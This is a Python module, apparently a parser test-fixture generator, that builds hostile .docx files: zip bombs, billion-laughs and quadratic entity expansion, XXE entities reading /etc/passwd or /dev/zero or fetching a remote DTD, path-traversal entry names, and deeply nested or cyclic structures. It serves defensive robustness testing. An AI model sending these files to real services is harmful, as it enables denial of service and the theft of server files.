"""Word documents that no school sends. Each is made by a function, the same bytes every time."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Sequence

NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml"
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
MEGABYTE = 1 << 20

Entry = tuple[str, bytes, int, int]  # name, raw deflated bytes, their size unpacked, CRC


def entry(name: str, data: bytes) -> Entry:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return name, packer.compress(data) + packer.flush(), len(data), zlib.crc32(data)


def swollen(name: str, megabytes: int, head: bytes = b"", tail: bytes = b"", fill: bytes = b" ") -> Entry:
    """`fill`, so many megabytes of it, between `head` and `tail`, packed without being made."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    once = packer.compress(fill * MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    crc = zlib.crc32(head)
    for _ in range(megabytes):
        crc = zlib.crc32(fill * MEGABYTE, crc)
    ended = packer.compress(tail) + packer.flush()
    return name, raw + once * megabytes + ended, len(head) + megabytes * MEGABYTE + len(tail), zlib.crc32(tail, crc)


def archive(entries: Sequence[Entry], flags: int = 0, overlapping: int = 0, said: int | None = None) -> bytes:
    """A ZIP archive. `overlapping`: so many more names for the last entry's bytes. `said`: the size that it gives for the last."""
    body, directory, count, at = bytearray(), bytearray(), 0, 0
    for number, (name, raw, size, crc) in enumerate(entries):
        last = number == len(entries) - 1
        shown = said if last and said is not None else size
        common = struct.pack("<HHHHHIII", 20, flags, 8, 0, 33, crc, len(raw), shown)
        at = len(body)
        body += b"PK\x03\x04" + common + struct.pack("<HH", len(name), 0) + name.encode() + raw
        for alias in [name, *(f"word/{n}.xml" for n in range(overlapping if last else 0))]:
            directory += b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<HHHHHII", len(alias), 0, 0, 0, 0, 0, at) + alias.encode()
            count += 1
    return bytes(body + directory) + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count & 0xFFFF, count & 0xFFFF, len(directory), len(body), 0)


def types(**parts: str) -> bytes:
    overrides = "".join(f'<Override PartName="/word/{name}.xml" ContentType="{_TYPE}.{kind}+xml"/>' for name, kind in parts.items())
    return (
        f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{overrides}</Types>'
    ).encode()


def relations(**targets: str) -> bytes:
    rows = "".join(f'<Relationship Id="r{n}" Type="{_RELS}/{kind}" Target="{to}"/>' for n, (kind, to) in enumerate(targets.items()))
    return f'<Relationships xmlns="{PACKAGE}/relationships">{rows}</Relationships>'.encode()


PARTS = {"document": "document.main", "styles": "styles", "numbering": "numbering", "footnotes": "footnotes"}
FRAME = [entry("[Content_Types].xml", types(**PARTS)), entry("_rels/.rels", relations(officeDocument="word/document.xml"))]
INNER = entry("word/_rels/document.xml.rels", relations(styles="styles.xml", numbering="numbering.xml", footnotes="footnotes.xml"))


def root(name: str, inside: str) -> bytes:
    return f"<w:{name} {NS}>{inside}</w:{name}>".encode()


def word(body: str | bytes | Entry, styles: str = "", numbering: str = "", footnotes: str = "", **options: int) -> bytes:
    """A whole Word document around `body`: what stands in w:body, all of document.xml, or that as an entry."""
    if isinstance(body, str):
        body = root("document", f"<w:body>{body}</w:body>")
    document = entry("word/document.xml", body) if isinstance(body, bytes) else body
    others = {"styles": styles, "numbering": numbering, "footnotes": footnotes}
    return archive([*FRAME, INNER, *(entry(f"word/{name}.xml", root(name, inside)) for name, inside in others.items()), document], **options)


def p(words: str, properties: str = "") -> str:
    return f"<w:p>{f'<w:pPr>{properties}</w:pPr>' if properties else ''}<w:r><w:t>{words}</w:t></w:r></w:p>"


RULE = p("All staff wear a badge at the gate.")
BODY = [entry("word/document.xml", root("document", f"<w:body>{RULE}</w:body>"))]
OPEN = f"<w:document {NS}><w:body><w:p><w:r><w:t>".encode()
CLOSE = b"</w:t></w:r></w:p></w:body></w:document>"


def listed(count: int, style: str, start: int = 999_999_999, pattern: str = "%1.", level: str = "0") -> bytes:
    numbering = (
        f'<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="{start}"/><w:numFmt w:val="{style}"/>'
        f'<w:lvlText w:val="{pattern}"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
    )
    return word(p("A badge.", f'<w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="1"/></w:numPr>') * count, numbering=numbering)


def laughs() -> bytes:
    entities = '<!ENTITY a "ha">' + "".join(f"<!ENTITY {b} '" + f"&{a};" * 10 + "'>" for a, b in zip("abcdefghi", "bcdefghij", strict=True))
    return f"<!DOCTYPE d [{entities}]><w:document {NS}><w:body>{p('&j;')}</w:body></w:document>".encode()


def doctype(declared: str, said: str) -> bytes:
    return word(f"<!DOCTYPE d [{declared}]><w:document {NS}><w:body>{p(said)}</w:body></w:document>".encode())


def style(name: str, base: str) -> str:
    return f'<w:style w:type="paragraph" w:styleId="{name}"><w:name w:val="{name}"/><w:basedOn w:val="{base}"/></w:style>'


def cell(inside: str, properties: str = "") -> str:
    return f"<w:tc><w:tcPr>{properties}</w:tcPr>{inside}</w:tc>"


def table(*rows: str) -> str:
    return f"<w:tbl>{''.join(f'<w:tr>{row}</w:tr>' for row in rows)}</w:tbl>"


def cyclic_lists() -> bytes:
    numbering = "".join(
        f'<w:abstractNum w:abstractNumId="{n}"><w:styleLink w:val="s{n}"/><w:numStyleLink w:val="s{1 - n}"/></w:abstractNum>' for n in (0, 1)
    )
    numbering += '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
    return word(p("A badge.", '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>') * 3, numbering=numbering)


def noted(count: int) -> bytes:
    cited = "".join(f'<w:p><w:r><w:t>Rule</w:t><w:footnoteReference w:id="{n}"/></w:r></w:p>' for n in range(count))
    return word(cited, footnotes="".join(f'<w:footnote w:id="{n}">{p("Note.")}</w:footnote>' for n in range(count)))


def boxes(depth: int) -> str:
    return "<w:p><w:r><w:pict><w:txbxContent>" * depth + RULE + "</w:txbxContent></w:pict></w:r></w:p>" * depth


def quine() -> bytes:
    """An archive within an archive within ...: twenty deep."""
    inner = entry("word/document.xml", root("document", f"<w:body>{RULE}</w:body>"))
    for _ in range(20):
        inner = entry("word/document.xml", archive([*FRAME, inner]))
    return archive([*FRAME, inner])


FILES: dict[str, Callable[[], bytes]] = {
    "bomb-of-text.docx": lambda: word(swollen("word/document.xml", 450, OPEN, CLOSE, b"a")),
    "bomb-of-spaces.docx": lambda: word(swollen("word/document.xml", 450, OPEN, CLOSE)),
    "bomb-of-tags.docx": lambda: word(swollen("word/document.xml", 50, OPEN, CLOSE, b"<w:br/>")),
    "bomb-over-the-limit.docx": lambda: archive([*FRAME, swollen("word/media/image1.png", 1500)]),
    "bomb-that-lies-of-its-size.docx": lambda: word(swollen("word/document.xml", 450, OPEN, CLOSE), said=1000),
    "bomb-of-overlapping-entries.docx": lambda: word(swollen("word/document.xml", 40, OPEN, CLOSE), overlapping=400),
    "bomb-within-an-archive.docx": lambda: archive([*FRAME, INNER, entry("word/embeddings/a.zip", archive([swollen("x", 1000)])), *BODY]),
    "archives-within-archives.docx": quine,
    "sixty-thousand-entries.docx": lambda: word(RULE, overlapping=60_000),
    "billion-laughs.docx": lambda: word(laughs()),
    "quadratic-entity.docx": lambda: doctype("<!ENTITY a '" + "a" * 100_000 + "'>", "&a;" * 100_000),
    "entity-that-names-itself.docx": lambda: doctype('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"),
    "entity-of-a-file.docx": lambda: doctype('<!ENTITY a SYSTEM "file:///etc/passwd">', "All staff &a;"),
    "entity-of-another-host.docx": lambda: doctype('<!ENTITY % a SYSTEM "http://192.0.2.1/a.dtd">%a;', "All staff"),
    "entity-of-a-device.docx": lambda: doctype('<!ENTITY a SYSTEM "file:///dev/zero">', "All staff &a;"),
    "deep-tags.docx": lambda: word("<w:sdt><w:sdtContent>" * 300_000 + RULE + "</w:sdtContent></w:sdt>" * 300_000),
    "deep-tables.docx": lambda: word("<w:tbl><w:tr><w:tc>" * 80 + RULE + "</w:tc></w:tr></w:tbl>" * 80),
    "deep-text-boxes.docx": lambda: word(boxes(60)),
    "huge-attribute.docx": lambda: word("<w:p w:x='" + "a" * 30_000_000 + f"'>{RULE[5:]}"),
    "many-attributes.docx": lambda: word("<w:p " + " ".join(f'w:a{n}="1"' for n in range(300_000)) + f">{RULE[5:]}"),
    "many-names.docx": lambda: word("".join(f"<w:x{n}/>" for n in range(500_000)) + RULE),
    "million-runs.docx": lambda: word(f"<w:p>{'<w:r><w:t>a </w:t></w:r>' * 1_000_000}</w:p>"),
    "million-paragraphs.docx": lambda: word(RULE * 1_000_000),
    "million-cells.docx": lambda: word(table(*[cell(p("a")) * 1000] * 1000)),
    "cells-of-empty-tables.docx": lambda: word(table(*[cell(table(cell(""))) * 300] * 300) + RULE),
    "span-of-a-billion.docx": lambda: word(table(*[cell(RULE, '<w:gridSpan w:val="1000000000"/>') * 2] * 3)),
    "skip-of-a-billion.docx": lambda: word(table(f'<w:trPr><w:gridBefore w:val="1000000000"/></w:trPr>{cell(RULE) * 2}')),
    "span-of-less-than-nothing.docx": lambda: word(table(*[cell(RULE, '<w:gridSpan w:val="-1000000000"/>') * 2] * 3)),
    "span-of-no-number.docx": lambda: word(table(cell(RULE, '<w:gridSpan w:val="many"/>') * 2)),
    "cyclic-styles.docx": lambda: word(p("A badge.", '<w:pStyle w:val="a"/>') * 3, styles=style("a", "b") + style("b", "a")),
    "chain-of-styles.docx": lambda: word(
        p("A badge.", '<w:pStyle w:val="s0"/>') * 2000, styles="".join(style(f"s{n}", f"s{n + 1}") for n in range(5000))
    ),
    "cyclic-lists.docx": cyclic_lists,
    "billionth-letter.docx": lambda: listed(200, "lowerLetter"),
    "billionth-roman.docx": lambda: listed(2000, "upperRoman"),
    "label-without-end.docx": lambda: listed(2000, "decimal", 1, "%1" * 100_000),
    "level-of-a-billion.docx": lambda: listed(3, "decimal", level="1000000000"),
    "level-of-no-number.docx": lambda: listed(3, "decimal", level="deep"),
    "many-footnotes.docx": lambda: noted(50_000),
    "no-document.docx": lambda: archive([*FRAME, entry("word/other.xml", b"<a/>")]),
    "wrong-types.docx": lambda: archive([entry("[Content_Types].xml", types(document="numbering")), *FRAME[1:], entry("word/document.xml", b"<a/>")]),
    "document-of-itself.docx": lambda: archive([FRAME[0], entry("_rels/.rels", relations(officeDocument="_rels/.rels")), entry("word/a", b"")]),
    "relations-in-a-ring.docx": lambda: archive(
        [*FRAME, entry("word/_rels/document.xml.rels", relations(styles="document.xml", numbering="document.xml")), entry("word/document.xml", root("document", f"<w:body>{RULE}</w:body>"))]
    ),
    "names-that-climb.docx": lambda: archive(
        [FRAME[0], entry("_rels/.rels", relations(officeDocument="../../../../etc/passwd")), entry("../../../../etc/passwd", b"x"), entry("word/a", b"")]
    ),
    "locked.docx": lambda: word(RULE, flags=1),
    "cut-off.docx": lambda: word(RULE * 200)[:-300],
    "crossed-out.docx": lambda: word(RULE * 200).replace(b"\x50\x4b\x03\x04", b"\x50\x4b\x03\x05"),
    "no-xml.docx": lambda: word(bytes(range(256)) * 1000),
}
